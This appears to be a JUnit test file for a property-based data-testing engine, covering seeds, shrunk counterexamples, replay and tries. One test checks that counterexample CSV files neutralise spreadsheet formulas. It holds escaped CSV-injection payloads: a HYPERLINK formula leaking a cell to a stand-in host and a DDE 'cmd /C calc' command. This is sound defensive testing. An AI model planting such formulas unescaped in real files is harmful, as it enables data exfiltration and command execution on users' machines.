package dev.mltest.engine.property;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.platform.engine.discovery.DiscoverySelectors.selectClass;
import static org.junit.platform.engine.discovery.DiscoverySelectors.selectMethod;

import dev.mltest.data.InMemoryTable;
import dev.mltest.engine.Constants;
import dev.mltest.engine.property.fixtures.FormulaProperties;
import dev.mltest.engine.property.fixtures.ScalerProperties;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.platform.testkit.engine.EngineExecutionResults;
import org.opentest4j.AssertionFailedError;

class PropertyExecutionTest {
  private static final String NAN = "scalingIntroducesNoNaN(InMemoryTable)";

  @TempDir Path dir;

  private EngineExecutionResults run(String method) {
    return PropertyKit.engine(
            dir, selectMethod(ScalerProperties.class, method, InMemoryTable.class.getName()))
        .execute();
  }

  @Test
  void aPassingPropertyReportsTriesSeedAndEdgeCases() {
    EngineExecutionResults results = run("scalingKeepsTheRowCount");
    results.testEvents().assertStatistics(s -> s.started(1).succeeded(1));
    Map<String, String> entries =
        PropertyKit.entries(results, "scalingKeepsTheRowCount(InMemoryTable)");
    assertThat(entries)
        .containsEntry("mltest.tries", "30")
        .containsEntry("mltest.seed", "42")
        .containsEntry("mltest.seed.source", "annotation")
        .containsKey("mltest.edgeCases");
    assertThat(Integer.parseInt(entries.get("mltest.edgeCases"))).isBetween(3, 30);
  }

  @Test
  void aFailingPropertyFailsWithTheSeedTheShrunkTableAndHowToReplay() throws IOException {
    EngineExecutionResults results = run("scalingIntroducesNoNaN");
    results.testEvents().assertStatistics(s -> s.started(1).failed(1));
    Throwable failure = PropertyKit.failure(results, NAN);
    assertThat(failure).isInstanceOf(AssertionFailedError.class);
    assertThat(failure.getMessage())
        .contains("seed 42")
        .contains("NaN introduced in row 1, column 'amount'")
        .contains("Shrunk counterexample (1 row")
        .contains("currency,amount\n  EUR,0.0")
        .contains(
            "Replay: @PropertyTest(seed = \"42\") on this method, or -Dmltest.property.seed=42");
    assertThat(failure.getCause()).isInstanceOf(AssertionFailedError.class);

    Map<String, String> entries = PropertyKit.entries(results, NAN);
    assertThat(entries)
        .containsEntry("mltest.seed", "42")
        .containsEntry("mltest.counterexample.shrunk", "currency,amount\nEUR,0.0")
        .containsKeys(
            "mltest.tries",
            "mltest.edgeCases",
            "mltest.counterexample.original",
            "mltest.counterexample.origin");

    List<Path> files = PropertyKit.files(results);
    assertThat(files)
        .extracting(p -> p.getFileName().toString())
        .containsExactly("original.csv", "shrunk.csv");
    assertThat(Files.readString(files.get(1))).isEqualTo("currency,amount\nEUR,0.0\n");
    assertThat(Files.readString(files.get(0))).startsWith("currency,amount\n");
  }

  /**
   * Issue #11: generated text from a hostile contract stays text when a reviewer opens the file.
   */
  @Test
  void counterexampleFilesNeutraliseSpreadsheetFormulas() throws IOException {
    EngineExecutionResults results =
        PropertyKit.engine(
                dir,
                selectMethod(FormulaProperties.class, "alwaysFails", InMemoryTable.class.getName()))
            .execute();
    results.testEvents().assertStatistics(s -> s.started(1).failed(1));
    List<Path> files = PropertyKit.files(results);
    assertThat(files).hasSize(2);
    for (Path file : files) {
      List<String> lines = Files.readAllLines(file);
      assertThat(lines.get(0)).as("header of %s", file).isEqualTo("'=cell");
      assertThat(lines.subList(1, lines.size()))
          .as("rows of %s", file)
          .isNotEmpty()
          .allSatisfy(
              line ->
                  assertThat(line)
                      .isIn(
                          "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"",
                          "'@SUM(1+1)",
                          "'+cmd|' /C calc'!A0"));
    }
  }

  @Test
  void theConfigurationSeedReplaysTheSameRunExactly() {
    EngineExecutionResults first =
        PropertyKit.engine(
                dir,
                selectMethod(
                    ScalerProperties.class,
                    "scalingIntroducesNoNaN",
                    InMemoryTable.class.getName()))
            .configurationParameter(Constants.PROPERTY_SEED, "777")
            .execute();
    EngineExecutionResults second =
        PropertyKit.engine(
                dir,
                selectMethod(
                    ScalerProperties.class,
                    "scalingIntroducesNoNaN",
                    InMemoryTable.class.getName()))
            .configurationParameter(Constants.PROPERTY_SEED, "777")
            .execute();
    Map<String, String> a = PropertyKit.entries(first, NAN);
    Map<String, String> b = PropertyKit.entries(second, NAN);
    assertThat(a)
        .containsEntry("mltest.seed", "777")
        .containsEntry("mltest.seed.source", "configuration mltest.property.seed");
    assertThat(b.get("mltest.counterexample.original"))
        .isEqualTo(a.get("mltest.counterexample.original"));
    assertThat(b.get("mltest.counterexample.try")).isEqualTo(a.get("mltest.counterexample.try"));
    assertThat(PropertyKit.failure(second, NAN).getMessage())
        .isEqualTo(PropertyKit.failure(first, NAN).getMessage());
  }

  @Test
  void rowPropertiesReceiveOneRowAsAMap() {
    EngineExecutionResults results =
        PropertyKit.engine(
                dir,
                selectMethod(ScalerProperties.class, "everyRowHasACurrency", Map.class.getName()))
            .execute();
    results.testEvents().assertStatistics(s -> s.started(1).succeeded(1));
    assertThat(PropertyKit.entries(results, "everyRowHasACurrency(Map)"))
        .containsEntry("mltest.tries", "25");
  }

  @Test
  void triesComeFromTheConfigurationWhenTheAnnotationLeavesThemOut() {
    EngineExecutionResults results =
        PropertyKit.engine(
                dir,
                selectMethod(
                    ScalerProperties.class,
                    "usesTheConfiguredTries",
                    InMemoryTable.class.getName()))
            .configurationParameter(Constants.PROPERTY_TRIES, "7")
            .execute();
    assertThat(PropertyKit.entries(results, "usesTheConfiguredTries(InMemoryTable)"))
        .containsEntry("mltest.tries", "7");
  }

  @Test
  void aWholeClassRunsEachPropertyAsOneTest() {
    ScalerProperties.broken = false;
    EngineExecutionResults results =
        PropertyKit.engine(dir, selectClass(ScalerProperties.class)).execute();
    results.testEvents().assertStatistics(s -> s.started(5).succeeded(4).failed(1));
    results.containerEvents().assertStatistics(s -> s.started(2).succeeded(2));
    ScalerProperties.broken = true;
  }
}
